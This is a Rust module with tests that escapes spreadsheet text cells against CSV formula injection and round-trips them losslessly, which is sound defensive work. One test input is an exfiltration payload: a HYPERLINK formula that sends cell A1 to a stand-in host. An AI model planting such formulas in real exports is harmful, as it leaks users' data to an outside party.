//! Text in CSV files that people open in Excel or LibreOffice. A text cell that starts with `=`, `+`,
//! `-` or `@` (or a tab or carriage return before one) is run as a formula there: a remark typed by
//! one user could then leak data or start a program on a colleague's machine (OWASP "CSV injection").
//! Such text is written with a leading `'`, which the spreadsheet shows as text. Text that already
//! starts with `'` gets one more, so every text has exactly one written form and reading it back
//! ([`from_spreadsheet`]) gives the original: export and import are lossless.
//!
//! Only text goes through here; numbers are written as numbers (`-2,5` stays `-2,5`).

/// The first characters that make a spreadsheet read a cell as a formula (the first four) or that
/// can hide one (tab, carriage return), and the quote itself so the mapping can be undone.
const NEEDS_QUOTE: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// The form of `text` to write in a spreadsheet cell: `'` + `text` when it starts with one of
/// `= + - @ \t \r '`, else `text` unchanged.
pub fn to_spreadsheet(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(NEEDS_QUOTE) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The text a cell written by [`to_spreadsheet`] stands for: without its first `'` when that is
/// followed by one of `= + - @ \t \r '`, else unchanged. A hand-written `'abc` stays `'abc`.
pub fn from_spreadsheet(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(NEEDS_QUOTE) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_written_as_text() {
        for (text, written) in [
            (
                "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"klik\")",
                "'=HYPERLINK(\"http://x.example/?leak=\"&A1,\"klik\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("'abc", "''abc"),
            ("''", "'''"),
            ("'", "''"),
        ] {
            assert_eq!(to_spreadsheet(text), written, "{text:?}");
            assert_eq!(from_spreadsheet(written), text, "{written:?}");
        }
    }

    #[test]
    fn other_text_is_left_alone() {
        for text in [
            "", "Zaanstad", "a=b", "1+1", " =1", "\n=1", "€ 12", "<5", "'abc", "'12", "'",
        ] {
            if !text.starts_with('\'') {
                assert_eq!(to_spreadsheet(text), text, "{text:?}");
            }
            assert_eq!(from_spreadsheet(text), text, "{text:?}");
        }
    }

    /// Every text comes back as it was, and no two texts share a written form.
    #[test]
    fn writing_and_reading_back_is_a_bijection() {
        let pieces = ["", "'", "=", "+", "-", "@", "\t", "\r", "a", "1", " ", "''"];
        let mut texts = Vec::new();
        for a in pieces {
            for b in pieces {
                for c in pieces {
                    texts.push(format!("{a}{b}{c}"));
                }
            }
        }
        texts.sort();
        texts.dedup();
        let mut written = std::collections::HashSet::new();
        for text in &texts {
            let cell = to_spreadsheet(text);
            assert_eq!(from_spreadsheet(&cell), text, "{text:?}");
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
            assert!(written.insert(cell.into_owned()), "{text:?} shares a form");
        }
        // Reading is the inverse on every written form, and written forms are all it strips from.
        for cell in &written {
            assert_eq!(to_spreadsheet(from_spreadsheet(cell)), cell.as_str());
        }
    }
}
